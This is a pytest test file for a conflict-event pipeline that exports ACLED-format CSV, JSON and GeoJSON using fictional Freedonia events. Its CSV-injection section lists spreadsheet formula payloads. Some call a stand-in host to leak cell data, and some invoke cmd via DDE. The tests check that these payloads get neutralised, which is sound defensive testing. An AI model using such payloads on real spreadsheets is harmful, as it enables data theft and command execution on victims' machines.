"""Exports: ACLED CSV (31 columns, in order), JSON round-trip, GeoJSON with [lon, lat]."""
from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from frontlines.export import (
    ACLED_COLUMNS,
    acled_row,
    disorder_type,
    interaction,
    safe_cell,
    write_acled_csv,
    write_geojson,
    write_json,
)
from frontlines.models import (
    EVENT_TYPES,
    SUB_EVENT_TYPES,
    ActorRef,
    CleanedText,
    Document,
    DocumentResult,
    EventRecord,
    PlaceRef,
)
from frontlines.store import Store

EXPECTED_COLUMNS = (
    "event_id_cnty event_date year time_precision disorder_type event_type sub_event_type actor1 assoc_actor_1 "
    "inter1 actor2 assoc_actor_2 inter2 interaction civilian_targeting iso region country admin1 admin2 admin3 "
    "location latitude longitude geo_precision source source_scale notes fatalities tags timestamp"
).split()

TOWN = PlaceRef(surface="Marisville", place_id="gn:1", name="Marisville", lat=35.5, lon=36.6, admin1="North Province",
                admin2="Marisville District", country="Freedonia", iso=999)


def _result(doc_id: str, outlet: str | None) -> DocumentResult:
    text = ("Rebels, backed by the Eastern Brigade, clashed with the army in Marisville. "
            "Gunmen killed two farmers near an unnamed village, a monitor claimed.")
    first = text.split(". ")[0] + "."
    second = text[len(first) + 1:]
    rebels = ActorRef("Rebels", actor_id="pack:rebels", name="Freedonia Rebel Front", aliases=["FRF"], inter=2)
    army = ActorRef("the army", actor_id="pack:army", name="Military Forces of Freedonia", inter=1)
    brigade = ActorRef("the Eastern Brigade", actor_id="prov:eastern-brigade", provisional=True, inter=3)
    events = [
        EventRecord(doc_id=doc_id, event_type="Battles", sub_event_type="Armed clash", actor1=rebels, actor2=army,
                    assoc_actor_1=[brigade, ActorRef("Volunteers", inter=3)], location=TOWN,
                    event_date=date(2024, 2, 2), fatalities=4, evidence=first, evidence_start=0, evidence_end=len(first)),
        EventRecord(doc_id=doc_id, event_type="Violence against civilians", sub_event_type="Attack",
                    actor1=ActorRef("Gunmen", inter=3), actor2=ActorRef("farmers", actor_id="pack:civ", name="Civilians (Freedonia)", inter=7),
                    location=PlaceRef(surface="an unnamed village"), event_date=date(2024, 2, 1), time_precision=2,
                    fatalities=2, evidence=second, evidence_start=len(first) + 1, evidence_end=len(text),
                    hedged=True, claimant="a monitor", hedge_cue="claimed"),
    ]
    doc = Document(id=doc_id, text=text, source_path=f"/c/{doc_id}.txt", outlet=outlet, published=date(2024, 2, 3))
    return DocumentResult(document=doc, cleaned=CleanedText(text, []), events=events)


@pytest.fixture
def events(tmp_path: Path) -> list[dict]:
    with Store(tmp_path / "x.db") as s:
        s.save_result(_result("d1", "Freedonia Times"), region="Middle East", iso3="FRE")
        return s.events()


def test_columns_are_exactly_acleds():
    assert ACLED_COLUMNS == EXPECTED_COLUMNS and len(ACLED_COLUMNS) == 31


def test_acled_csv_loads_in_pandas(events: list[dict], tmp_path: Path):
    out = tmp_path / "acled.csv"
    with out.open("w", newline="", encoding="utf-8") as fh:
        assert write_acled_csv(events, fh) == 2
    df = pd.read_csv(out)
    assert list(df.columns) == EXPECTED_COLUMNS
    assert len(df) == 2
    assert df["fatalities"].dtype.kind == "i" and df["year"].dtype.kind == "i"
    assert df["latitude"].dtype.kind == "f"

    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    attack, clash = raw.iloc[0], raw.iloc[1]  # ordered by date
    assert clash["event_date"] == "2024-02-02" and clash["year"] == "2024" and clash["time_precision"] == "1"
    assert clash["disorder_type"] == "Political violence"
    assert clash["actor1"] == "Freedonia Rebel Front"
    assert clash["assoc_actor_1"] == "the Eastern Brigade; Volunteers"
    assert (clash["inter1"], clash["inter2"], clash["interaction"]) == ("2", "1", "12")
    assert clash["civilian_targeting"] == ""
    assert clash["iso"] == "999" and clash["region"] == "Middle East" and clash["country"] == "Freedonia"
    assert (clash["latitude"], clash["longitude"], clash["geo_precision"]) == ("35.5", "36.6", "1")
    assert clash["source"] == "Freedonia Times" and clash["source_scale"] == ""
    assert clash["fatalities"] == "4" and clash["tags"] == ""
    assert clash["event_id_cnty"].startswith("FRE")
    assert int(clash["timestamp"]) > 1_600_000_000

    assert attack["sub_event_type"] == "Attack" and attack["time_precision"] == "2"
    assert attack["interaction"] == "37" and attack["civilian_targeting"] == "Civilian targeting"
    assert attack["tags"] == "hedged claim by a monitor"
    assert attack["notes"].endswith("[claim by a monitor]")
    assert attack["latitude"] == "" and attack["location"] == "an unnamed village"


def test_acled_csv_with_stdlib_reader(events: list[dict]):
    buf = io.StringIO(newline="")
    write_acled_csv(events, buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == EXPECTED_COLUMNS and all(len(r) == 31 for r in rows)


def test_json_round_trip(events: list[dict]):
    buf = io.StringIO()
    assert write_json(events, buf) == 2
    assert json.loads(buf.getvalue()) == events


def test_geojson_feature_collection(events: list[dict]):
    buf = io.StringIO()
    assert write_geojson(events, buf) == 1  # the village has no coordinates
    gj = json.loads(buf.getvalue())
    assert gj["type"] == "FeatureCollection" and len(gj["features"]) == 1
    f = gj["features"][0]
    assert f["type"] == "Feature"
    assert f["geometry"] == {"type": "Point", "coordinates": [36.6, 35.5]}  # [lon, lat]
    props = f["properties"]
    assert props["event_type"] == "Battles" and props["source"] == "Freedonia Times"
    assert props["assoc_actor_1"] == "the Eastern Brigade; Volunteers"
    assert "sources" not in props and "actor1_aliases" not in props
    assert all(v is None or isinstance(v, (str, int, float, bool)) for v in props.values())
    assert f["id"] == props["id"]


def test_empty_exports():
    buf = io.StringIO()
    assert write_acled_csv([], buf) == 0 and buf.getvalue().strip() == ",".join(EXPECTED_COLUMNS)
    buf = io.StringIO()
    assert write_geojson([], buf) == 0 and json.loads(buf.getvalue()) == {"type": "FeatureCollection", "features": []}
    buf = io.StringIO()
    assert write_json([], buf) == 0 and json.loads(buf.getvalue()) == []


def test_acled_conventions():
    assert interaction(2, 1) == 12 and interaction(1, 2) == 12 and interaction(2, None) == 20
    assert interaction(None, 7) == 70 and interaction(None, None) is None and interaction(3, 3) == 33
    for et, subs in EVENT_TYPES.items():
        for sub in subs:
            assert disorder_type(et, sub) in {
                "Political violence", "Demonstrations", "Strategic developments", "Political violence; Demonstrations",
            }, sub
    assert disorder_type("Battles", "Armed clash") == "Political violence"
    assert disorder_type("Protests", "Peaceful protest") == "Demonstrations"
    assert disorder_type("Riots", "Violent demonstration") == "Demonstrations"
    assert disorder_type("Protests", "Excessive force against protesters") == "Political violence; Demonstrations"
    assert disorder_type("Strategic developments", "Arrests") == "Strategic developments"
    assert set(SUB_EVENT_TYPES.values()) == set(EVENT_TYPES)
    # a hand-made event dict with missing fields still makes a full row
    row = acled_row({"id": "abc", "event_type": "Protests", "sub_event_type": "Peaceful protest", "inter1": 6,
                     "hedged": True, "sources": [{"doc_id": "d9", "outlet": None}]})
    assert list(row) == EXPECTED_COLUMNS
    assert row["interaction"] == 60 and row["source"] == "d9" and row["tags"] == "hedged claim"
    assert row["fatalities"] == 0 and row["event_date"] == "" and row["event_id_cnty"] == "abc"


# ----------------------------------------------------------------------------- CSV injection (OWASP)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "=1+2\";=1+2", "-", "=", "@"]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_formulas(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -35.2, 0, 4, "-3", "-35.2", "+7", "-0.5", "-1e5", "36.6", "", None,
                                   "Binnish", "'quoted", " =not first", "Hayat Tahrir al-Sham", "a=b", "x-y"])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) == value


def _hostile_events(events: list[dict]) -> list[dict]:
    """The fixture events with a document's and a reviewer's formulas in the text columns, and a negative lon."""
    evil = [dict(e) for e in events]
    a, b = evil
    a.update(notes='=HYPERLINK("http://evil.example","x")', actor1="@SUM(A1:A9)", location="+cmd|' /C calc'!A0",
             admin1="-2+3", source="\t=1+2", actor2="\r=1+2", longitude=-35.25, latitude=-3.5)
    b.update(assoc_actor_1=["=1+1", "Volunteers"], claimant=None, notes="-", admin2="-3")
    return evil


def test_acled_csv_neutralises_formula_cells(events: list[dict], tmp_path: Path):
    out = tmp_path / "hostile.csv"
    with out.open("w", newline="", encoding="utf-8") as fh:
        write_acled_csv(_hostile_events(events), fh)
    text = out.read_text(encoding="utf-8")
    for cell in csv.reader(io.StringIO(text)):
        for v in cell:
            if v and v[0] in "=+-@\t\r":
                assert _is_number(v), v  # only real numbers may start with - or +
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    a = raw[raw["notes"].str.contains("HYPERLINK")].iloc[0]
    assert a["notes"] == '\'=HYPERLINK("http://evil.example","x")' and a["actor1"] == "'@SUM(A1:A9)"
    assert a["location"] == "'+cmd|' /C calc'!A0" and a["admin1"] == "'-2+3"
    assert a["source"] == "'\t=1+2" and a["actor2"] == "'\r=1+2"
    b = raw[raw["notes"] == "'-"].iloc[0]
    assert b["assoc_actor_1"] == "'=1+1; Volunteers" and b["admin2"] == "-3"  # "-3" is a number: left alone
    # negative numbers stay numbers
    df = pd.read_csv(out)
    assert df["longitude"].dtype.kind == "f" and -35.25 in set(df["longitude"]) and -3.5 in set(df["latitude"])
    assert df["fatalities"].dtype.kind == "i"
    assert ",-3.5,-35.25," in text


def _is_number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_places_csv_neutralises_formula_cells(tmp_path: Path):
    from frontlines.pack import Place, write_places_csv

    out = tmp_path / "places.csv"
    write_places_csv(out, [Place(id="gn:1", name="=HYPERLINK(\"x\")", kind="town", lat=-33.5, lon=-70.25,
                                 admin1="@evil", variants=["-x", "ok"], source="geonames")])
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert raw.iloc[0]["name"] == "'=HYPERLINK(\"x\")" and raw.iloc[0]["admin1"] == "'@evil"
    assert raw.iloc[0]["variants"] == "'-x|ok"
    assert pd.read_csv(out)["lat"].iloc[0] == -33.5
